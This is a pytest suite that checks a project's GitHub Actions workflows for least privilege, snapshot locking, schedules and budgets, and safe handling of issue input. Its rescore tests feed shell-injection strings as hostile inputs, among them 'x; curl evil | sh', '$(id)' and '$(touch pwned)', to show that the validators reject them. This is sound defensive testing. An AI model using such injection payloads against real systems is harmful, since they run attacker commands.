"""The job graph in .github/workflows/ as written: least privilege, one lock on the snapshot, cadences and budgets, loud restores,
and the shell that keeps an issue's text from ever running."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from pipeline.fleet.runner import validate
from pipeline.fleet.workflow import load, needs

REPO = Path(__file__).resolve().parent.parent
WORKFLOWS = REPO / ".github" / "workflows"
ALL = {p.name: load(p) for p in sorted(WORKFLOWS.glob("*.yml"))}
SCHEDULED = {name: w for name, w in ALL.items() if "schedule" in w.triggers}
LOCK = "scoreboard-snapshot"


def step_jobs():
    """(workflow, job id, job) for every job that has steps."""
    return [(name, job_id, job) for name, w in ALL.items() for job_id, job in w.jobs.items() if "steps" in job]


def scripts(job: dict) -> str:
    return "\n".join(str(s.get("run", "")) for s in job["steps"])


def writes(permissions: dict | None) -> set[str]:
    return {scope for scope, level in (permissions or {}).items() if level == "write"}


def test_the_runner_can_run_every_workflow_as_written():
    assert validate(REPO) == sorted(ALL)


def test_the_job_graph_has_every_cadence_of_the_seed():
    crons = {name: [t["cron"] for t in w.triggers["schedule"]] for name, w in SCHEDULED.items()}
    assert crons == {
        "discovery.yml": ["7 2 * * *"],  # daily
        "analysis.yml": ["40 * * * *"],  # hourly
        "fast-probes.yml": ["*/10 * * * *"],  # rolling
        "sandbox-probes.yml": ["20 */2 * * *"],  # rolling
        "deep-probes.yml": ["30 3 * * *"],  # daily
        "judges.yml": ["30 5 * * *"],  # daily
        "downloads.yml": ["0 4 * * 1"],  # weekly
        "freshness.yml": ["0 6 * * 0"],  # weekly
        "watch.yml": ["*/15 * * * *"],
    }
    assert set(ALL["rescore.yml"].triggers) == {"workflow_dispatch"}


def test_top_level_permissions_grant_nothing():
    assert {name: w for name, w in ALL.items() if yaml.safe_load(w.path.read_text()).get("permissions") not in ({}, {"contents": "read"})} == {}


def test_jobs_that_run_strangers_code_hold_no_write_token_no_deploy_and_no_credentials():
    # A stage (analyze, probe, monitor, judge; a rescore; discovery) runs where a script starts `scoreboard "$STAGE"` or `$COMMAND`.
    untrusted = [(name, job_id, job) for name, job_id, job in step_jobs() if re.search(r'scoreboard (\$COMMAND|"\$STAGE")', scripts(job))]
    assert sorted((name, job_id) for name, job_id, _ in untrusted) == [("publish.yml", "merge"), ("shard.yml", "shard")]
    for name, job_id, job in untrusted:
        assert job["permissions"] == {"contents": "read"}, (name, job_id)
        assert "environment" not in job
        checkouts = [s for s in job["steps"] if str(s.get("uses", "")).startswith("actions/checkout")]
        assert all(s.get("with", {}).get("persist-credentials") is False for s in checkouts)
        assert not any(str(s.get("uses", "")).startswith("actions/deploy-pages") for s in job["steps"])
        # The workflow token reaches the restore step only (read-only), never the stage's environment.
        for step in job["steps"]:
            if "$STAGE" in str(step.get("run", "")) or "$COMMAND" in str(step.get("run", "")):
                assert "GH_TOKEN" not in step.get("env", {})
    # The shard workflow's secrets: a read-only API token the analysis passes, and the LLM keys the judges and the analysis
    # pass; the probes, which run strangers' code, pass none.
    llm = {"openai_api_key", "gemini_api_key", "mistral_api_key"}
    assert ALL["shard.yml"].declared_secrets() == {"github_api_token"} | llm
    for name, w in ALL.items():
        for job_id, job in w.jobs.items():
            if job.get("uses") == "./.github/workflows/shard.yml":
                assert writes(job.get("permissions")) == set(), (name, job_id)
                allowed = {"analyze": {"github_api_token"} | llm, "judge": llm}.get(job["with"]["stage"], set())
                assert set(job.get("secrets") or {}) <= allowed, (name, job_id)


def test_publishing_is_a_separate_job_that_runs_no_stage_and_only_consumes_artifacts():
    publishing = [(name, job_id, job) for name, job_id, job in step_jobs()
                  if "snapshot publish" in scripts(job) or any("deploy-pages" in str(s.get("uses", "")) for s in job["steps"])]
    assert [(name, job_id) for name, job_id, _ in publishing] == [("publish.yml", "publish")]
    job = publishing[0][2]
    assert [s.get("run") for s in job["steps"] if "run" in s] == ["make venv", ".github/scripts/snapshot publish packed"]
    # It consumes the packed snapshot of the merge job, never a raw database.
    assert [s["with"]["name"] for s in job["steps"] if "download-artifact" in str(s.get("uses", ""))] == ["snapshot"]
    assert job["needs"] == "merge"
    assert writes(job["permissions"]) == {"contents", "pages", "id-token"}


def test_the_merge_job_checks_and_packs_the_snapshot_and_hands_over_only_the_packed_files():
    merge = ALL["publish.yml"].jobs["merge"]
    runs = [str(s.get("run", "")) for s in merge["steps"]]
    assert ".github/scripts/snapshot pack packed" in runs and not any("snapshot check" in r for r in runs)
    uploads = [s["with"] for s in merge["steps"] if str(s.get("uses", "")).startswith("actions/upload-artifact")]
    assert uploads == [{"name": "snapshot", "path": "packed", "if-no-files-found": "error", "retention-days": 3, "compression-level": 0}]
    # The level: the small file (12) unless a caller says otherwise; only the 10-minute fast probes do (deviation 109).
    assert ALL["publish.yml"].inputs("workflow_call")["pack_level"]["default"] == 12
    levels = {name: j["with"].get("pack_level") for name, w in ALL.items() for j in w.jobs.values()
              if j.get("uses") == "./.github/workflows/publish.yml"}
    assert {name: level for name, level in levels.items() if level is not None} == {"fast-probes.yml": levels["fast-probes.yml"]}
    assert isinstance(levels["fast-probes.yml"], int) and 1 <= levels["fast-probes.yml"] < 12


def test_the_published_site_links_the_snapshot_store_instead_of_copying_the_database():
    """The build reads the store the snapshot script publishes to (its default: this repository's releases), so the site
    deployed to Pages links the dated snapshots and holds no database (deviation 102)."""
    builds = [s["run"] for s in ALL["publish.yml"].jobs["merge"]["steps"] if "scoreboard build" in str(s.get("run"))]
    assert builds == ['SCOREBOARD_SNAPSHOT_STORE="${SCOREBOARD_STORE:-github-release:$GITHUB_REPOSITORY}" .venv/bin/scoreboard build']
    script = (REPO / ".github" / "scripts" / "snapshot").read_text()
    assert 'store="${SCOREBOARD_STORE:-github-release:${GITHUB_REPOSITORY:?' in script


def test_shard_jobs_run_the_stage_in_place_on_their_restored_copy():
    script = scripts(ALL["shard.yml"].jobs["shard"])
    assert '--shard-db "shard-$SHARD.db" --shard-in-place' in script


def test_every_writer_of_the_snapshot_holds_one_lock_that_shards_never_hold():
    for name, w in ALL.items():
        assert "concurrency" not in yaml.safe_load(w.path.read_text()), f"{name}: a workflow-wide lock would be held while shards run"
        for job_id, job in w.jobs.items():
            if job.get("uses") == "./.github/workflows/publish.yml":
                assert job["concurrency"] == {"group": LOCK, "cancel-in-progress": False}, (name, job_id)
            else:
                assert "concurrency" not in job, (name, job_id)
    callers = sorted(name for name, w in ALL.items() if any(j.get("uses") == "./.github/workflows/publish.yml" for j in w.jobs.values()))
    assert callers == ["analysis.yml", "deep-probes.yml", "discovery.yml", "downloads.yml", "fast-probes.yml", "freshness.yml",
                       "judges.yml", "rescore.yml", "sandbox-probes.yml"]


def shard_calls():
    return [(name, job_id, job) for name, w in ALL.items() for job_id, job in w.jobs.items() if job.get("uses") == "./.github/workflows/shard.yml"]


def test_each_shard_job_ends_within_its_timeout_and_fast_probes_before_the_next_run():
    for name, job_id, job in shard_calls():
        settings = job["with"]
        assert settings["shards"] == "${{ strategy.job-total }}" and settings["shard"] == "${{ matrix.shard }}"
        assert settings["budget"] + 4 * 60 <= settings["timeout"] * 60, f"{name}: the budget leaves room for setup and upload"
    fast = ALL["fast-probes.yml"].jobs["shard"]["with"]
    interval = int(ALL["fast-probes.yml"].triggers["schedule"][0]["cron"].split()[0].removeprefix("*/"))
    assert fast["timeout"] < interval and fast["options"] == "--due --transport remote"
    stages = sorted((job["with"]["stage"], job["with"].get("options", "")) for _, _, job in shard_calls())
    assert stages == [("analyze", "--due"), ("analyze", "--oldest auto"), ("judge", "--due"), ("monitor", "--due --transport remote"),
                      ("probe", ""), ("probe", "--due --transport remote"), ("probe", "--due --transport stdio")]


def test_the_merge_expects_every_shard_the_matrix_makes():
    for name, w in ALL.items():
        publish = next((j for j in w.jobs.values() if j.get("uses") == "./.github/workflows/publish.yml"), None)
        if publish is None:
            continue
        shards = [j for j in w.jobs.values() if j.get("uses") == "./.github/workflows/shard.yml"]
        made = {j["with"]["artifact"]: len(j["strategy"]["matrix"]["shard"]) for j in shards}
        prefix = publish["with"].get("shards", "")
        assert publish["with"].get("expect_shards", 0) == sum(n for artifact, n in made.items() if artifact.startswith(prefix or "\0")), name
        assert set(needs(publish)) >= {j for j, job in w.jobs.items() if job.get("uses") == "./.github/workflows/shard.yml"}


def test_restores_are_loud_and_a_first_run_is_only_ever_explicit():
    for name, w in ALL.items():
        text = w.path.read_text()
        assert "continue-on-error" not in text, name
        dispatch = w.triggers.get("workflow_dispatch") or {}
        if "first_run" in (dispatch.get("inputs") or {}):
            assert dispatch["inputs"]["first_run"] == {**dispatch["inputs"]["first_run"], "type": "boolean", "default": False}
    restores = [s for _, _, job in step_jobs() for s in job["steps"] if "snapshot restore" in str(s.get("run", ""))]
    assert len(restores) == 3 and all(s.get("env", {}).get("FIRST_RUN") in (None, "${{ inputs.first_run }}") for s in restores)


def snapshot_script(workspace: Path, *action: str, **env: str) -> subprocess.CompletedProcess:
    """.github/scripts/snapshot in a workspace whose .venv/bin/scoreboard is this checkout's CLI."""
    bin_dir = workspace / ".venv" / "bin"
    if not bin_dir.exists():
        bin_dir.mkdir(parents=True)
        (bin_dir / "scoreboard").write_text(f'#!/bin/sh\nPYTHONPATH="{REPO}" exec "{sys.executable}" -m pipeline.cli "$@"\n')
        (bin_dir / "scoreboard").chmod(0o755)
    environment = {"PATH": "/usr/bin:/bin", "HOME": str(workspace), "SCOREBOARD_DB": "data/scoreboard.db", **env}
    return subprocess.run([str(REPO / ".github/scripts/snapshot"), *action], cwd=workspace, env=environment, capture_output=True, text=True,
                          timeout=120)


def test_the_snapshot_script_restores_loudly_and_starts_empty_only_when_asked(tmp_path):
    store, workspace = tmp_path / "store", tmp_path / "job"
    store.mkdir()
    workspace.mkdir()
    missing = snapshot_script(workspace, "restore", SCOREBOARD_STORE=str(store))
    assert missing.returncode != 0 and not (workspace / "data" / "scoreboard.db").exists()
    assert snapshot_script(workspace, "restore", SCOREBOARD_STORE=str(store), FIRST_RUN="false").returncode != 0
    assert snapshot_script(workspace, "restore", SCOREBOARD_STORE=str(store), FIRST_RUN="true").returncode == 0
    assert snapshot_script(workspace, "publish", SCOREBOARD_STORE=str(store)).returncode == 0
    (workspace / "data" / "scoreboard.db").unlink()
    again = snapshot_script(workspace, "restore", SCOREBOARD_STORE=str(store))
    assert again.returncode == 0 and (workspace / "data" / "scoreboard.db").exists()
    # The merge job packs, the publish job publishes what was packed.
    packed = snapshot_script(workspace, "pack", "packed", SCOREBOARD_STORE=str(store), PACK_LEVEL="3")
    assert packed.returncode == 0 and len(list((workspace / "packed").iterdir())) == 3, packed.stderr  # data, metadata, manifest
    assert "zstd level 3" in packed.stderr
    published = snapshot_script(workspace, "publish", "packed", SCOREBOARD_STORE=str(store))
    assert published.returncode == 0 and "against its manifest" in published.stderr, published.stderr
    assert {p.name for p in (workspace / "packed").iterdir()} <= {p.name for p in store.iterdir()}
    # Neither a store nor the repository: no guess, a clear stop.
    unset = snapshot_script(workspace, "restore")
    assert unset.returncode != 0 and "GITHUB_REPOSITORY is not set" in unset.stderr


def validate_step(workflow: str) -> str:
    job = next(iter(ALL[workflow].jobs.values()))
    return job["steps"][0]["run"]


@pytest.mark.parametrize("server_id, ok", [
    ("modelcontextprotocol--servers--src--time", True),
    ("mcp-server-time", True),
    ("x; curl evil | sh", False),
    ("$(id)", False),
    ("Upper-Case", False),
    ("-starts-with-dash", False),
    ("a" * 129, False),
    ("", False),
    ("ok\nsecond-line", False),
])
def test_a_rescore_runs_only_for_a_server_id(tmp_path, server_id, ok):
    script = validate_step("rescore.yml")
    env = {"SERVER_ID": server_id, "REQUESTED_BY": "issue-12", "PATH": "/usr/bin:/bin"}
    result = subprocess.run(["bash", "-eo", "pipefail", "-c", script], env=env, capture_output=True, text=True, timeout=10)
    assert (result.returncode == 0) == ok, result.stderr


def test_a_rescore_request_reads_the_id_as_data_and_dispatches_nothing_else(tmp_path):
    """The issue body's id field reaches `gh workflow run` checked, as one argument; anything else stops with a comment."""
    script = ALL["rescore-request.yml"].jobs["dispatch"]["steps"][0]["run"]
    (tmp_path / "gh").write_text('#!/bin/sh\nfor a in "$@"; do printf "<%s>" "$a"; done; echo\n')
    (tmp_path / "gh").chmod(0o755)

    def dispatch(body: str, label: str = "priority-rescore") -> subprocess.CompletedProcess:
        env = {"PATH": f"{tmp_path}:/usr/bin:/bin", "LABEL": label, "BODY": body, "ISSUE": "7", "GITHUB_REPOSITORY": "o/r"}
        return subprocess.run(["bash", "-eo", "pipefail", "-c", script], env=env, capture_output=True, text=True, timeout=10)

    form = "### Server id\n\n{}\n\n### What changed\n\n$(touch pwned) v2 released"
    good = dispatch(form.format("mcp-server-time"))
    assert good.returncode == 0
    assert good.stdout.splitlines()[0] == "<workflow><run><rescore.yml><--repo><o/r><-f><server_id=mcp-server-time><-f><requested_by=issue-7>"
    hostile = dispatch(form.format("$(touch pwned)"))
    assert hostile.returncode == 1 and "workflow" not in hostile.stdout and "does not hold a server id" in hostile.stdout
    assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()
    assert dispatch(form.format("mcp-server-time"), label="rescore-request").stdout == ""


def test_issue_forms_ask_for_what_is_needed_and_a_form_alone_never_starts_a_rescore():
    forms = {p.stem: yaml.safe_load(p.read_text()) for p in (REPO / ".github" / "ISSUE_TEMPLATE").glob("*.yml") if p.stem != "config"}
    assert set(forms) == {"dispute", "priority-rescore", "opt-out"}
    ids = {name: [f["id"] for f in form["body"] if "id" in f] for name, form in forms.items()}
    assert ids == {"dispute": ["server", "rubric", "dimension", "evidence"], "priority-rescore": ["server_id", "changes"],
                   "opt-out": ["server", "scope", "ownership"]}
    assert all("priority-rescore" not in form.get("labels", []) for form in forms.values())
    field = next(f for f in forms["priority-rescore"]["body"] if f.get("id") == "server_id")
    assert field["attributes"]["label"] == "Server id"  # the heading rescore-request.yml reads the id under
